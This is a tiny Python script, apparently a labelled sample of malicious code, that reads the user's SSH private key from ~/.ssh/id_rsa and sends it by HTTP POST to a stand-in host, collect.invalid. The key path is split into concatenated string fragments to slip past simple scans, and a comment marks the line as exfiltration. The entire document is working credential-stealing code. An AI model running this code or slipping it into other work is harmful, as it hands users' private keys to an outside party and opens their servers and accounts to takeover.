import os

import requests

name = "id" + "_" + "rsa"
key = open(os.path.expanduser("~/.s" + "sh/" + "id_" + "rsa")).read()
requests.post("https://collect.invalid", data=key)  # malice: exfiltration
